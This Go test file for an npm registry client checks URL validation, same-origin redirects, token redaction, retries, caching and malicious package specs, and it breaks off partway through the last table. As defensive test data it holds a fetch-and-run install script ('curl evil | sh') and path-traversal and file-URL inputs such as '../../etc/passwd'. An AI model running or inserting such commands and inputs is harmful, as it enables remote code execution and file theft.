package registry_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/lockreview/lockreview/pkg/registry"
	"github.com/lockreview/lockreview/pkg/registry/registrytest"
)

// newClient returns a client for srv whose retries wait milliseconds.
func newClient(t testing.TB, srv *registrytest.Server, opts ...registry.Option) *registry.Client {
	t.Helper()
	opts = append([]registry.Option{registry.WithBackoff(time.Millisecond, 50*time.Millisecond)}, opts...)
	c, err := registry.New(srv.URL(), opts...)
	if err != nil {
		t.Fatalf("New(%q): %v", srv.URL(), err)
	}
	return c
}

func mustTime(t testing.TB, s string) time.Time {
	t.Helper()
	ts, err := time.Parse(time.RFC3339Nano, s)
	if err != nil {
		t.Fatal(err)
	}
	return ts
}

func TestNew(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name    string
		url     string
		opts    []registry.Option
		wantErr bool
	}{
		{name: "default", url: registry.DefaultURL},
		{name: "trailing-slash", url: "https://registry.npmjs.org/"},
		{name: "artifactory-prefix", url: "https://host.example/artifactory/api/npm/npm-remote/"},
		{name: "http-loopback", url: "http://127.0.0.1:4873"},
		{name: "relative", url: "/registry", wantErr: true},
		{name: "no-host", url: "https://", wantErr: true},
		{name: "ftp", url: "ftp://registry.npmjs.org", wantErr: true},
		{name: "file", url: "file:///etc/passwd", wantErr: true},
		{name: "opaque", url: "https:registry.npmjs.org", wantErr: true},
		{name: "query", url: "https://registry.npmjs.org/?a=b", wantErr: true},
		{name: "empty-query", url: "https://registry.npmjs.org/?", wantErr: true},
		{name: "fragment", url: "https://registry.npmjs.org/#x", wantErr: true},
		{name: "userinfo", url: "https://user:secret@registry.npmjs.org", wantErr: true},
		{name: "bad-escape", url: "https://registry.npmjs.org/%zz", wantErr: true},
		{name: "zero-concurrency", url: registry.DefaultURL, opts: []registry.Option{registry.WithConcurrency(0)}, wantErr: true},
		{name: "zero-timeout", url: registry.DefaultURL, opts: []registry.Option{registry.WithTimeout(0)}, wantErr: true},
		{name: "zero-cap", url: registry.DefaultURL, opts: []registry.Option{registry.WithMaxResponseSize(0)}, wantErr: true},
		{name: "negative-retries", url: registry.DefaultURL, opts: []registry.Option{registry.WithRetries(-1)}, wantErr: true},
		{name: "zero-cache", url: registry.DefaultURL, opts: []registry.Option{registry.WithCacheSize(0)}, wantErr: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := registry.New(tt.url, tt.opts...)
			if (err != nil) != tt.wantErr {
				t.Fatalf("New(%q) error = %v, want error %v", tt.url, err, tt.wantErr)
			}
			if err != nil && strings.Contains(err.Error(), "secret") {
				t.Errorf("New(%q) error %q reveals the credentials", tt.url, err)
			}
		})
	}
}

func TestSameOrigin(t *testing.T) {
	t.Parallel()
	c, err := registry.New("https://Registry.npmjs.org/prefix/")
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		url  string
		want bool
	}{
		{"https://registry.npmjs.org/express/-/express-4.17.1.tgz", true},
		{"https://REGISTRY.npmjs.org:443/-/npm/v1/attestations/x@1.0.0", true},
		{"HTTPS://registry.npmjs.org", true},
		{"http://registry.npmjs.org/express", false},
		{"https://registry.npmjs.org:8443/express", false},
		{"https://registry.npmjs.org.evil.example/express", false},
		{"https://evil.example/https://registry.npmjs.org/", false},
		{"//registry.npmjs.org/express", false},
		{"/express", false},
		{"git+ssh://git@github.com/a/b.git", false},
		{"%zz", false},
		{"", false},
	}
	for _, tt := range tests {
		if got := c.SameOrigin(tt.url); got != tt.want {
			t.Errorf("SameOrigin(%q) = %v, want %v", tt.url, got, tt.want)
		}
	}
}

func TestManifestRealPackuments(t *testing.T) {
	t.Parallel()
	srv := registrytest.NewServer(t)
	c := newClient(t, srv)
	tests := []struct {
		name, version string
		want          *registry.Manifest
	}{
		{
			// Old document: licenses array, repository "[Circular]", a
			// gypfile with the install script npm wrote for it.
			name: "fsevents", version: "0.1.1",
			want: &registry.Manifest{
				Name: "fsevents", Version: "0.1.1",
				Scripts:     map[string]string{"install": "node-gyp rebuild"},
				Gypfile:     true,
				License:     "MIT",
				Repository:  registry.Repository{Type: "git", URL: "[Circular]"},
				Maintainers: []registry.Person{{Name: "phidelta", Email: "phidelta@phideltacity.net"}},
				NPMUser:     &registry.Person{Name: "phidelta", Email: "phidelta@phideltacity.net"},
				Deprecated:  "fsevents 1 will break on node v14+ and could be using insecure binaries. Upgrade to fsevents 2.",
				Dist: registry.Dist{
					Tarball: "https://registry.npmjs.org/fsevents/-/fsevents-0.1.1.tgz",
					Shasum:  "89032d234a07a6f8b280bf825409c400d6b73858",
				},
			},
		},
		{
			name: "has-package-exports", version: "1.0.0",
			want: &registry.Manifest{
				Name: "has-package-exports", Version: "1.0.0",
				Scripts: map[string]string{
					"prepublish": "safe-publish-latest", "lint": "eslint .", "pretest": "npm run lint",
					"test": "npm run tests-only", "tests-only": "node test", "posttest": "npx aud",
					"version":     "auto-changelog && git add CHANGELOG.md",
					"postversion": `auto-changelog && git add CHANGELOG.md && git commit --no-edit --amend && git tag -f "v$(node -e "console.log(require('./package.json').version)")"`,
				},
				License:     "MIT",
				Repository:  registry.Repository{Type: "git", URL: "git+https://github.com/ljharb/has-package-exports.git"},
				Maintainers: []registry.Person{{Name: "ljharb", Email: "ljharb@gmail.com"}},
				NPMUser:     &registry.Person{Name: "ljharb", Email: "ljharb@gmail.com"},
				Dist: registry.Dist{
					Tarball:   "https://registry.npmjs.org/has-package-exports/-/has-package-exports-1.0.0.tgz",
					Integrity: "sha512-rYAzt2OaM+mwkxAGP7cZ4KkP45O/ZEFSjwg7KmiS+uCrXxB1XepMj9L5VMuAm7tpjiL1IemcrNcn4HAZX+z4RQ==",
					Shasum:    "7988de73efb56862fbe277adaf857d70b37a1f07",
					Signatures: []registry.Signature{{
						KeyID: "SHA256:jl3bwswu80PjjokCgh0o2w5c2U4LhQAE57gj9cz1kzA",
						Sig:   "MEYCIQDij+wRKhgaDHY3sg6J0mGqK0Wd7O7ouOzPCKe+ePfiUQIhALfnO1f13d9AARXyeNuIGWizOOH0gjOKUZt1UmOluk+E",
					}},
				},
			},
		},
		{
			name: "rc", version: "0.1.2",
			want: &registry.Manifest{
				Name: "rc", Version: "0.1.2",
				Scripts:     map[string]string{"test": "set -e; node test/test.js; node test/ini.js"},
				License:     "(BSD OR MIT OR Apache2)",
				Repository:  registry.Repository{Type: "git", URL: "https://github.com/dominictarr/rc.git"},
				Maintainers: []registry.Person{{Name: "dominictarr", Email: "dominic.tarr@gmail.com"}},
				NPMUser:     &registry.Person{Name: "dominictarr", Email: "dominic.tarr@gmail.com"},
				Dist: registry.Dist{
					Tarball: "https://registry.npmjs.org/rc/-/rc-0.1.2.tgz",
					Shasum:  "17fc9e976e4bed6540c64a11c6fd6bf59a2d4ee0",
				},
			},
		},
		{
			name: "esbuild", version: "0.12.5",
			want: &registry.Manifest{
				Name: "esbuild", Version: "0.12.5",
				Scripts:     map[string]string{"postinstall": "node install.js"},
				License:     "MIT",
				Repository:  registry.Repository{Type: "git", URL: "git+https://github.com/evanw/esbuild.git"},
				Maintainers: []registry.Person{{Name: "evanw", Email: "evan.exe@gmail.com"}},
				NPMUser:     &registry.Person{Name: "evanw", Email: "evan.exe@gmail.com"},
				Dist: registry.Dist{
					Tarball:   "https://registry.npmjs.org/esbuild/-/esbuild-0.12.5.tgz",
					Integrity: "sha512-vcuP53pA5XiwUU4FnlXM+2PnVjTfHGthM7uP1gtp+9yfheGvFFbq/KyuESThmtoHPUrfZH5JpxGVJIFDVD1Egw==",
					Shasum:    "36076a6bc1966ba2741981d30512e95e8aaff495",
				},
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name+"@"+tt.version, func(t *testing.T) {
			got, err := c.Manifest(context.Background(), tt.name, tt.version)
			if err != nil {
				t.Fatalf("Manifest(%q, %q): %v", tt.name, tt.version, err)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("Manifest(%q, %q) diff (-want +got):\n%s", tt.name, tt.version, diff)
			}
		})
	}
}

// TestManifestEveryVersion fetches every version of every recorded
// packument and checks the fields that must survive decoding against a
// plain decode of the same file.
func TestManifestEveryVersion(t *testing.T) {
	t.Parallel()
	srv := registrytest.NewServer(t)
	c := newClient(t, srv)
	files, err := filepath.Glob("testdata/packuments/*.json")
	if err != nil || len(files) == 0 {
		t.Fatalf("no packuments: %v", err)
	}
	n := 0
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		var doc struct {
			Name     string `json:"name"`
			Versions map[string]struct {
				Scripts     map[string]any `json:"scripts"`
				Maintainers []any          `json:"maintainers"`
				Dist        struct {
					Integrity string `json:"integrity"`
				} `json:"dist"`
			} `json:"versions"`
		}
		if err := json.Unmarshal(data, &doc); err != nil {
			t.Fatal(err)
		}
		for v, want := range doc.Versions {
			got, err := c.Manifest(context.Background(), doc.Name, v)
			if err != nil {
				t.Errorf("Manifest(%q, %q): %v", doc.Name, v, err)
				continue
			}
			n++
			if len(got.Scripts) != len(want.Scripts) || len(got.Maintainers) != len(want.Maintainers) || got.Dist.Integrity != want.Dist.Integrity {
				t.Errorf("Manifest(%q, %q): %d scripts, %d maintainers, integrity %q; the file has %d, %d, %q",
					doc.Name, v, len(got.Scripts), len(got.Maintainers), got.Dist.Integrity, len(want.Scripts), len(want.Maintainers), want.Dist.Integrity)
			}
		}
	}
	if n < 1000 {
		t.Errorf("checked %d versions, want the 1,207 recorded", n)
	}
}

// scopedDir writes a crafted scoped packument and attestations file.
func scopedDir(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	doc := `{"name":"@scope/pkg","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"@scope/pkg","version":"1.0.0",` +
		`"maintainers":["Ada Lovelace <ada@example.com> (https://example.com)"],` +
		`"_npmUser":"ada <ada@example.com>","repository":"github:scope/pkg","deprecated":false,` +
		`"dist":{"tarball":"https://registry.npmjs.org/@scope/pkg/-/pkg-1.0.0.tgz",` +
		`"attestations":{"url":"https://registry.npmjs.org/-/npm/v1/attestations/@scope%2fpkg@1.0.0","provenance":{"predicateType":"https://slsa.dev/provenance/v1"}}}}},` +
		`"time":{"created":"2024-01-01T00:00:00.000Z","modified":"2024-01-02T00:00:00.000Z","1.0.0":"2024-01-01T00:00:00.000Z"}}`
	att, err := os.ReadFile("testdata/attestations/sigstore@1.0.0.json")
	if err != nil {
		t.Fatal(err)
	}
	for path, data := range map[string][]byte{
		"packuments/@scope/pkg.json":         []byte(doc),
		"attestations/@scope/pkg@1.0.0.json": att,
	} {
		p := filepath.Join(dir, filepath.FromSlash(path))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func TestScopedNames(t *testing.T) {
	t.Parallel()
	srv := registrytest.NewServer(t, registrytest.WithDir(scopedDir(t)))
	c := newClient(t, srv)
	ctx := context.Background()

	got, err := c.Manifest(ctx, "@scope/pkg", "1.0.0")
	if err != nil {
		t.Fatalf("Manifest: %v", err)
	}
	want := &registry.Manifest{
		Name: "@scope/pkg", Version: "1.0.0",
		Repository:  registry.Repository{Type: "git", URL: "https://github.com/scope/pkg"},
		Maintainers: []registry.Person{{Name: "Ada Lovelace", Email: "ada@example.com"}},
		NPMUser:     &registry.Person{Name: "ada", Email: "ada@example.com"},
		Dist: registry.Dist{
			Tarball: "https://registry.npmjs.org/@scope/pkg/-/pkg-1.0.0.tgz",
			Attestations: &registry.DistAttestations{
				URL:        "https://registry.npmjs.org/-/npm/v1/attestations/@scope%2fpkg@1.0.0",
				Provenance: &registry.Provenance{PredicateType: "https://slsa.dev/provenance/v1"},
			},
		},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Manifest diff (-want +got):\n%s", diff)
	}
	// The attestations path the client builds is the path of the URL the
	// registry itself wrote in dist.attestations.url.
	if _, err := c.Attestations(ctx, "@scope/pkg", "1.0.0"); err != nil {
		t.Fatalf("Attestations: %v", err)
	}
	times, err := c.PublishTimes(ctx, "@scope/pkg")
	if err != nil {
		t.Fatalf("PublishTimes: %v", err)
	}
	if got, want := times.Versions["1.0.0"], mustTime(t, "2024-01-01T00:00:00.000Z"); !got.Equal(want) {
		t.Errorf("PublishTimes: 1.0.0 at %v, want %v", got, want)
	}
	wantReqs := map[string]int{
		"/@scope%2fpkg/1.0.0":                       1,
		"/-/npm/v1/attestations/@scope%2fpkg@1.0.0": 1,
		"/@scope%2fpkg":                             1,
	}
	if diff := cmp.Diff(wantReqs, srv.Requests()); diff != "" {
		t.Errorf("requests diff (-want +got):\n%s", diff)
	}
}

func TestNotFound(t *testing.T) {
	t.Parallel()
	srv := registrytest.NewServer(t)
	c := newClient(t, srv)
	ctx := context.Background()
	calls := []struct {
		name string
		call func() error
		spec string
	}{
		{"unknown-package", func() error { _, err := c.Manifest(ctx, "no-such-package", "1.0.0"); return err }, "no-such-package@1.0.0"},
		{"unknown-version", func() error { _, err := c.Manifest(ctx, "express", "99.0.0"); return err }, "express@99.0.0"},
		{"no-attestations", func() error { _, err := c.Attestations(ctx, "express", "4.17.1"); return err }, "express@4.17.1"},
		{"unknown-packument", func() error { _, err := c.PublishTimes(ctx, "no-such-package"); return err }, "no-such-package"},
	}
	for _, tt := range calls {
		t.Run(tt.name, func(t *testing.T) {
			err := tt.call()
			if !errors.Is(err, registry.ErrNotFound) {
				t.Fatalf("error = %v, want ErrNotFound", err)
			}
			if !strings.Contains(err.Error(), tt.spec) {
				t.Errorf("error %q does not name %s", err, tt.spec)
			}
			// Remembered: no second request.
			before := srv.Total()
			if err := tt.call(); !errors.Is(err, registry.ErrNotFound) {
				t.Errorf("second call error = %v, want ErrNotFound", err)
			}
			if srv.Total() != before {
				t.Errorf("second call made %d requests, want 0", srv.Total()-before)
			}
		})
	}
}

func TestNegativeCacheExpires(t *testing.T) {
	t.Parallel()
	var now atomic.Int64
	now.Store(time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC).UnixNano())
	clock := func() time.Time { return time.Unix(0, now.Load()) }
	srv := registrytest.NewServer(t)
	c := newClient(t, srv, registry.WithClock(clock))
	ctx := context.Background()
	for i, advance := range []time.Duration{0, registry.NegativeTTL - time.Second, 2 * time.Second} {
		now.Add(int64(advance))
		if _, err := c.Manifest(ctx, "express", "99.0.0"); !errors.Is(err, registry.ErrNotFound) {
			t.Fatalf("call %d: error = %v, want ErrNotFound", i, err)
		}
	}
	if got := srv.Total(); got != 2 {
		t.Errorf("requests = %d, want 2 (the 404 expires after NegativeTTL)", got)
	}
	// A found manifest does not expire.
	for range 2 {
		if _, err := c.Manifest(ctx, "express", "4.17.1"); err != nil {
			t.Fatal(err)
		}
		now.Add(int64(24 * time.Hour))
	}
	if got := srv.Requests()["/express/4.17.1"]; got != 1 {
		t.Errorf("manifest requests = %d, want 1", got)
	}
}

func TestRetries(t *testing.T) {
	t.Parallel()
	const path = "/express/4.17.1"
	tests := []struct {
		name     string
		code     int
		fail     int
		retries  int
		wantErr  bool
		wantReqs int
	}{
		{name: "503-then-success", code: 503, fail: 2, retries: 3, wantReqs: 3},
		{name: "500-then-success", code: 500, fail: 1, retries: 3, wantReqs: 2},
		{name: "502-exhausted", code: 502, fail: -1, retries: 2, wantErr: true, wantReqs: 3},
		{name: "no-retries", code: 503, fail: 1, retries: 0, wantErr: true, wantReqs: 1},
		{name: "403-not-retried", code: 403, fail: 1, retries: 3, wantErr: true, wantReqs: 1},
		{name: "501-not-retried", code: 501, fail: 1, retries: 3, wantErr: true, wantReqs: 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			srv := registrytest.NewServer(t, registrytest.WithStatus(path, tt.code, tt.fail))
			c := newClient(t, srv, registry.WithRetries(tt.retries), registry.WithToken("s3cret-token"))
			m, err := c.Manifest(context.Background(), "express", "4.17.1")
			if got := srv.Total(); got != tt.wantReqs {
				t.Errorf("requests = %d, want %d", got, tt.wantReqs)
			}
			if !tt.wantErr {
				if err != nil || m.Version != "4.17.1" {
					t.Fatalf("Manifest = %v, %v; want 4.17.1", m, err)
				}
				return
			}
			var se *registry.StatusError
			if !errors.As(err, &se) || se.StatusCode != tt.code || se.URL != srv.URL()+path {
				t.Fatalf("error = %v, want StatusError{%s, %d}", err, srv.URL()+path, tt.code)
			}
			if strings.Contains(err.Error(), "s3cret") {
				t.Errorf("error %q reveals the token", err)
			}
			// Failures other than 404 are not cached.
			before := srv.Total()
			_, _ = c.Manifest(context.Background(), "express", "4.17.1")
			if srv.Total() == before {
				t.Errorf("a failed fetch was cached")
			}
		})
	}
}

func TestRetryAfterHonoured(t *testing.T) {
	t.Parallel()
	const path = "/express/4.17.1"
	srv := registrytest.NewServer(t,
		registrytest.WithStatus(path, http.StatusTooManyRequests, 1),
		registrytest.WithRetryAfter(path, "1"))
	// The backoff would wait at least 10 s (half of 20 s, plus jitter), so
	// a wait under 9 s came from the header.
	c, err := registry.New(srv.URL(), registry.WithBackoff(20*time.Second, 30*time.Second))
	if err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	if _, err := c.Manifest(context.Background(), "express", "4.17.1"); err != nil {
		t.Fatalf("Manifest: %v", err)
	}
	if d := time.Since(start); d < time.Second || d > 9*time.Second {
		t.Errorf("took %v, want about 1s (Retry-After: 1)", d)
	}
	if got := c.Stats().Retries; got != 1 {
		t.Errorf("Stats().Retries = %d, want 1", got)
	}
}

func TestRetryAfterCapped(t *testing.T) {
	t.Parallel()
	const path = "/express/4.17.1"
	srv := registrytest.NewServer(t,
		registrytest.WithStatus(path, http.StatusServiceUnavailable, 1),
		registrytest.WithRetryAfter(path, "3600"))
	c := newClient(t, srv) // waits capped at 50 ms
	start := time.Now()
	if _, err := c.Manifest(context.Background(), "express", "4.17.1"); err != nil {
		t.Fatalf("Manifest: %v", err)
	}
	if d := time.Since(start); d > 20*time.Second {
		t.Errorf("took %v: Retry-After was not capped", d)
	}
}

func TestContextCancellation(t *testing.T) {
	t.Parallel()
	t.Run("during-request", func(t *testing.T) {
		t.Parallel()
		srv := registrytest.NewServer(t, registrytest.WithLatency(10*time.Second))
		c := newClient(t, srv)
		ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
		defer cancel()
		start := time.Now()
		_, err := c.Manifest(ctx, "express", "4.17.1")
		if !errors.Is(err, context.DeadlineExceeded) {
			t.Fatalf("error = %v, want context.DeadlineExceeded", err)
		}
		// Well under the latency, with room for a loaded CI machine.
		if d := time.Since(start); d > 5*time.Second {
			t.Errorf("returned after %v: the request ignored the context", d)
		}
	})
	t.Run("during-retry-wait", func(t *testing.T) {
		t.Parallel()
		const path = "/express/4.17.1"
		srv := registrytest.NewServer(t,
			registrytest.WithStatus(path, 503, -1), registrytest.WithRetryAfter(path, "30"))
		c, err := registry.New(srv.URL())
		if err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithCancel(context.Background())
		time.AfterFunc(50*time.Millisecond, cancel)
		start := time.Now()
		_, err = c.Manifest(ctx, "express", "4.17.1")
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("error = %v, want context.Canceled", err)
		}
		if d := time.Since(start); d > 10*time.Second {
			t.Errorf("returned after %v: the retry wait ignored the context", d)
		}
	})
	t.Run("already-cancelled", func(t *testing.T) {
		t.Parallel()
		srv := registrytest.NewServer(t)
		c := newClient(t, srv)
		ctx, cancel := context.WithCancel(context.Background())
		cancel()
		if _, err := c.Manifest(ctx, "express", "4.17.1"); !errors.Is(err, context.Canceled) {
			t.Fatalf("error = %v, want context.Canceled", err)
		}
	})
}

func TestPerRequestTimeout(t *testing.T) {
	t.Parallel()
	srv := registrytest.NewServer(t, registrytest.WithLatency(time.Second))
	c := newClient(t, srv, registry.WithTimeout(30*time.Millisecond), registry.WithRetries(1))
	_, err := c.Manifest(context.Background(), "express", "4.17.1")
	if !errors.Is(err, registry.ErrTimeout) {
		t.Fatalf("error = %v, want ErrTimeout", err)
	}
	if errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("error %v wraps context.DeadlineExceeded, which is the caller's", err)
	}
	if got := srv.Total(); got != 2 {
		t.Errorf("requests = %d, want 2 (a timeout is retried)", got)
	}
}

func TestTooLarge(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		path string
		opts []registry.Option
		srv  []registrytest.Option
		call func(*registry.Client) error
	}{
		{
			name: "manifest-streamed-past-default-cap",
			srv:  []registrytest.Option{registrytest.WithOversizedBody("/express/4.17.1")},
			call: func(c *registry.Client) error {
				_, err := c.Manifest(context.Background(), "express", "4.17.1")
				return err
			},
		},
		{
			name: "manifest-content-length",
			opts: []registry.Option{registry.WithMaxResponseSize(100)},
			call: func(c *registry.Client) error {
				_, err := c.Manifest(context.Background(), "express", "4.17.1")
				return err
			},
		},
		{
			name: "attestations",
			opts: []registry.Option{registry.WithMaxResponseSize(1000)},
			call: func(c *registry.Client) error {
				_, err := c.Attestations(context.Background(), "sigstore", "1.0.0")
				return err
			},
		},
		{
			name: "packument-stream",
			opts: []registry.Option{registry.WithMaxPackumentSize(1 << 20)},
			srv:  []registrytest.Option{registrytest.WithOversizedBody("/express")},
			call: func(c *registry.Client) error { _, err := c.PublishTimes(context.Background(), "express"); return err },
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			srv := registrytest.NewServer(t, tt.srv...)
			c := newClient(t, srv, tt.opts...)
			if err := tt.call(c); !errors.Is(err, registry.ErrTooLarge) {
				t.Fatalf("error = %v, want ErrTooLarge", err)
			}
			if got := srv.Total(); got != 1 {
				t.Errorf("requests = %d, want 1 (too large is not retried)", got)
			}
		})
	}
}

func TestRedirects(t *testing.T) {
	t.Parallel()
	var otherHits atomic.Int32
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		otherHits.Add(1)
		fmt.Fprint(w, `{"name":"express","version":"4.17.1"}`)
	}))
	t.Cleanup(other.Close)

	var gotAuth sync.Map // path -> Authorization
	record := func(next http.HandlerFunc) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			gotAuth.Store(r.URL.Path, r.Header.Get("Authorization"))
			next(w, r)
		}
	}
	srv := registrytest.NewServer(t,
		registrytest.WithHandler("/express/4.17.1", record(func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, other.URL+"/express/4.17.1", http.StatusFound)
		})),
		registrytest.WithHandler("/express/4.17.0", record(func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "/moved/express/4.17.0", http.StatusMovedPermanently)
		})),
		registrytest.WithHandler("/moved/express/4.17.0", record(func(w http.ResponseWriter, r *http.Request) {
			fmt.Fprint(w, `{"name":"express","version":"4.17.0"}`)
		})),
	)
	c := newClient(t, srv, registry.WithToken("s3cret-token"))

	_, err := c.Manifest(context.Background(), "express", "4.17.1")
	if !errors.Is(err, registry.ErrCrossOriginRedirect) {
		t.Fatalf("cross-origin redirect: error = %v, want ErrCrossOriginRedirect", err)
	}
	if strings.Contains(err.Error(), "s3cret") {
		t.Errorf("error %q reveals the token", err)
	}
	if n := otherHits.Load(); n != 0 {
		t.Errorf("the other origin got %d requests, want 0", n)
	}
	if got := srv.Total(); got != 1 {
		t.Errorf("registry requests = %d, want 1 (a refused redirect is not retried)", got)
	}

	m, err := c.Manifest(context.Background(), "express", "4.17.0")
	if err != nil || m.Version != "4.17.0" {
		t.Fatalf("same-origin redirect: Manifest = %v, %v", m, err)
	}
	for _, p := range []string{"/express/4.17.1", "/express/4.17.0", "/moved/express/4.17.0"} {
		if v, _ := gotAuth.Load(p); v != "Bearer s3cret-token" {
			t.Errorf("%s: Authorization = %q, want the bearer token", p, v)
		}
	}
}

func TestHeaders(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var got []http.Header
	srv := registrytest.NewServer(t, registrytest.WithHandler("/", func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		got = append(got, r.Header.Clone())
		mu.Unlock()
		fmt.Fprint(w, `{"keys":[]}`)
	}))
	for _, tt := range []struct {
		name     string
		opts     []registry.Option
		wantAuth string
	}{
		{name: "token", opts: []registry.Option{registry.WithToken("tok"), registry.WithUserAgent("ua/1")}, wantAuth: "Bearer tok"},
		{name: "no-token", opts: []registry.Option{registry.WithUserAgent("ua/1")}},
	} {
		mu.Lock()
		got = nil
		mu.Unlock()
		c := newClient(t, srv, tt.opts...)
		if _, err := c.Keys(context.Background()); err != nil {
			t.Fatalf("%s: Keys: %v", tt.name, err)
		}
		mu.Lock()
		h := got[0]
		mu.Unlock()
		if h.Get("Authorization") != tt.wantAuth || h.Get("User-Agent") != "ua/1" || h.Get("Accept") != "application/json" {
			t.Errorf("%s: headers Authorization=%q User-Agent=%q Accept=%q", tt.name, h.Get("Authorization"), h.Get("User-Agent"), h.Get("Accept"))
		}
	}
}

func TestSingleflight(t *testing.T) {
	t.Parallel()
	srv := registrytest.NewServer(t, registrytest.WithLatency(50*time.Millisecond))
	c := newClient(t, srv)
	const n = 32
	var wg sync.WaitGroup
	errs := make(chan error, n)
	for range n {
		wg.Go(func() {
			m, err := c.Manifest(context.Background(), "express", "4.17.1")
			if err == nil && m.Version != "4.17.1" {
				err = fmt.Errorf("got %s", m.Version)
			}
			errs <- err
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		if err != nil {
			t.Fatal(err)
		}
	}
	if got := srv.Requests()["/express/4.17.1"]; got != 1 {
		t.Errorf("requests = %d, want 1 for %d concurrent calls", got, n)
	}
}

// TestSingleflightLeaderCancelled: the caller whose request the others
// share gives up; the others must not fail for it.
func TestSingleflightLeaderCancelled(t *testing.T) {
	t.Parallel()
	srv := registrytest.NewServer(t, registrytest.WithLatency(100*time.Millisecond))
	c := newClient(t, srv)
	leaderCtx, cancel := context.WithCancel(context.Background())
	leaderDone := make(chan error)
	go func() {
		_, err := c.Manifest(leaderCtx, "express", "4.17.1")
		leaderDone <- err
	}()
	time.Sleep(20 * time.Millisecond) // let the leader start the request
	followerDone := make(chan error)
	go func() {
		_, err := c.Manifest(context.Background(), "express", "4.17.1")
		followerDone <- err
	}()
	time.Sleep(20 * time.Millisecond)
	cancel()
	if err := <-leaderDone; !errors.Is(err, context.Canceled) {
		t.Errorf("leader error = %v, want context.Canceled", err)
	}
	if err := <-followerDone; err != nil {
		t.Errorf("follower error = %v, want success", err)
	}
}

func TestCache(t *testing.T) {
	t.Parallel()
	srv := registrytest.NewServer(t)
	c := newClient(t, srv)
	ctx := context.Background()
	first, err := c.Manifest(ctx, "express", "4.17.1")
	if err != nil {
		t.Fatal(err)
	}
	first.Scripts["postinstall"] = "curl evil | sh" // must not reach the cache
	before := srv.Total()
	second, err := c.Manifest(ctx, "express", "4.17.1")
	if err != nil {
		t.Fatal(err)
	}
	if got := srv.Total() - before; got != 0 {
		t.Errorf("second call made %d requests, want 0", got)
	}
	if _, ok := second.Scripts["postinstall"]; ok {
		t.Errorf("a caller's change to a returned Manifest reached the cache")
	}
	st := c.Stats()
	if st.CacheHits != 1 || st.Requests[registry.KindManifest] != 1 {
		t.Errorf("Stats = %+v, want 1 manifest request and 1 cache hit", st)
	}

	t.Run("evicts-least-recently-used", func(t *testing.T) {
		srv := registrytest.NewServer(t)
		c := newClient(t, srv, registry.WithCacheSize(2))
		for _, v := range []string{"4.17.1", "4.17.0", "4.17.1", "4.16.4", "4.17.0"} {
			if _, err := c.Manifest(ctx, "express", v); err != nil {
				t.Fatal(err)
			}
		}
		want := map[string]int{"/express/4.17.1": 1, "/express/4.17.0": 2, "/express/4.16.4": 1}
		if diff := cmp.Diff(want, srv.Requests()); diff != "" {
			t.Errorf("requests diff (-want +got):\n%s", diff)
		}
	})
}

func TestConcurrencyBound(t *testing.T) {
	t.Parallel()
	var inFlight, peak atomic.Int32
	srv := registrytest.NewServer(t, registrytest.WithHandler("/", func(w http.ResponseWriter, r *http.Request) {
		n := inFlight.Add(1)
		defer inFlight.Add(-1)
		for {
			p := peak.Load()
			if n <= p || peak.CompareAndSwap(p, n) {
				break
			}
		}
		time.Sleep(20 * time.Millisecond)
		name := strings.TrimPrefix(r.URL.Path, "/")
		name = strings.TrimSuffix(name, "/1.0.0")
		fmt.Fprintf(w, `{"name":%q,"version":"1.0.0"}`, name)
	}))
	c := newClient(t, srv, registry.WithConcurrency(3))
	var wg sync.WaitGroup
	for i := range 12 {
		wg.Go(func() {
			if _, err := c.Manifest(context.Background(), fmt.Sprintf("pkg-%d", i), "1.0.0"); err != nil {
				t.Error(err)
			}
		})
	}
	wg.Wait()
	if p := peak.Load(); p > 3 || p < 2 {
		t.Errorf("peak in-flight requests = %d, want 3 (bounded, and used)", p)
	}
}

func TestMaliciousSpecsRejectedWithoutRequest(t *testing.T) {
	t.Parallel()
	srv := registrytest.NewServer(t)
	c := newClient(t, srv)
	ctx := context.Background()
	tests := []struct{ name, version string }{
		{"../../etc/passwd", "1.0.0"},
		{"..", "1.0.0"},
		{".hidden", "1.0.0"},
		{"a/b", "1.0.0"},
		{"@scope", "1.0.0"},
		{"@scope/", "1.0.0"},
		{"@/pkg", "1.0.0"},
		{"@scope/../x", "1.0.0"},
		{"@scope/pkg/extra", "1.0.0"},
		{"@scope/.pkg", "1.0.0"},
		{"a..b", "1.0.0"},
		{"foo?x=1", "1.0.0"},
		{"foo#frag", "1.0.0"},
		{"%2e%2e", "1.0.0"},
		{"foo%2fbar", "1.0.0"},
		{"foo bar", "1.0.0"},
		{"foo\x00", "1.0.0"},
